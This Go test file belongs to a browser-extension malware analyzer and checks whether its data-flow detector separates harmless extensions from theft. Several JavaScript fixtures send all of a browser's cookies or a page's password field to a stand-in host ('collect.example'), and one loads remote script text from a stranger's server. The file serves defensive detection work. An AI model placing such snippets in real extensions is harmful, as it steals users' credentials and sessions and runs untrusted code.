package analysis

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
)

// What looks like a theft and is none, each beside the theft that it must not hide.
func TestHonestShapes(t *testing.T) {
	const popup = `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["storage", "cookies"], "host_permissions": ["<all_urls>"],
		"background": {"service_worker": "bg.js"}, "options_page": "o.html",
		"content_scripts": [{"matches": ["https://shop.example/*"], "js": ["c.js"]}]}`
	cookies := func(body string) string {
		return `chrome.runtime.onMessage.addListener((d) => { const x = new XMLHttpRequest(); x.open("GET", d.url); ` + body + ` });`
	}
	const page = `<input id="KEY" type="password"><script src="o.js"></script>`
	const keep = `const i = document.getElementById("KEY"); i.type = "password"; chrome.storage.local.set({key: i.value})`
	const send = `chrome.storage.local.get("key", (r) => fetch("https://api.translate.example/v1", {headers: {Authorization: r.key}}))`
	const choice = `chrome.storage.local.set({style: document.querySelector("input[name=style]").value})`
	const sendChoice = `chrome.storage.local.get("style", (r) => { const x = new XMLHttpRequest(); x.open("GET", "https://api.example/" + r.style); x.send() })`
	for _, c := range []struct {
		name, source, sink string
		found              bool
		files              map[string]string
	}{
		{"cookies home", "cookies", "xhr", false, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.url}, (l) => { x.setRequestHeader("x-cookie", l[0].value); x.send() })`)}},
		{"all cookies", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({}, (l) => { x.setRequestHeader("x-cookie", l[0].value); x.send() })`)}},
		{"a header that browsers leave out", "cookies", "xhr", false, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({}, (l) => { x.setRequestHeader("Cookie", l[0].value); x.send() })`)}},
		{"such headers in a loop", "cookies", "xhr", false, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({}, (l) => { const o = {Cookie: l[0].value, A: "b"}; for (const k in o) x.setRequestHeader(k, o[k]); x.send() })`)}},
		{"such headers of fetch", "cookies", "fetch", false, map[string]string{"bg.js": `chrome.cookies.getAll({}, (l) => fetch("https://collect.example/", {headers: {Cookie: l[0].value}}))`}},
		{"another header beside them", "cookies", "fetch", true, map[string]string{"bg.js": `chrome.cookies.getAll({}, (l) => fetch("https://collect.example/", {headers: {Cookie: "a=b", "X-Data": l[0].value}}))`}},
		{"the body beside them", "cookies", "fetch", true, map[string]string{"bg.js": `chrome.cookies.getAll({}, (l) => { const h = {Cookie: l[0].value}; fetch("https://collect.example/", {method: "POST", headers: h, body: JSON.stringify(h)}) })`}},
		{"cookies of another address", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.of}, (l) => x.send(l[0].value))`)}},
		{"the address is changed", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.url}, (l) => { d.url = d.to; x.open("POST", d.url); x.send(l[0].value) })`)}},
		{"key of a service", "password_field", "fetch", false, map[string]string{"o.html": page, "o.js": keep, "bg.js": send}},
		{"a value that the page holds", "form_data of a site", "fetch", false, map[string]string{"c.js": `fetch("https://collect.example/?" + document.getElementsByTagName("input")[0].getAttribute("value"))`}},
		{"a password that the page holds", "password_field", "fetch", true, map[string]string{"c.js": `fetch("https://collect.example/?" + document.querySelector("input[type=password]").getAttribute("value"))`}},
		{"a site's answer in its pages", "network", "script_text", false, map[string]string{"c.js": `fetch("https://www.shop.example/a").then(r => r.text()).then(t => { const s = document.createElement("script"); s.textContent = t })`}},
		{"a stranger's answer", "network", "script_text", true, map[string]string{"c.js": `fetch("https://cdn.example/a").then(r => r.text()).then(t => { const s = document.createElement("script"); s.textContent = t })`}},
		{"a choice of its own page", "form_data of a site", "xhr", false, map[string]string{"o.html": page, "o.js": choice, "bg.js": sendChoice}},
		{"a choice of its own page and a field of a site", "form_data of a site", "xhr", true, map[string]string{"o.html": page, "o.js": choice, "c.js": choice, "bg.js": sendChoice}},
		{"in elements", "cookies", "fetch", true, map[string]string{"bg.js": `import x from "./x.js"; const a = <b class="c">text</b>; chrome.cookies.getAll({}, c => fetch("https://collect.example/", {body: JSON.stringify(c)}))`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			for i, key := range []string{"apiKey", "walletPassword"} {
				if i > 0 && c.name != "key of a service" {
					break
				}
				files := fstest.MapFS{"manifest.json": {Data: []byte(popup)}}
				for name, text := range c.files {
					files[name] = &fstest.MapFile{Data: []byte(strings.ReplaceAll(text, "KEY", key))}
				}
				m, err := manifests.Parse([]byte(popup))
				if err != nil {
					t.Fatal(err)
				}
				r := Analyze(t.Context(), Input{Manifest: m, Files: files})
				found := slices.ContainsFunc(r.Flows, func(f behavior.Flow) bool {
					source := f.Source
					if source == "form_data" && !f.Own {
						source += " of a site"
					}
					return source == c.source && f.Sink == c.sink
				})
				if want := c.found || i > 0; found != want {
					t.Errorf("%s: %s -> %s: %v, want %v; flows %v, problems %v", key, c.source, c.sink, found, want, r.Flows, r.Problems)
				}
			}
		})
	}
}
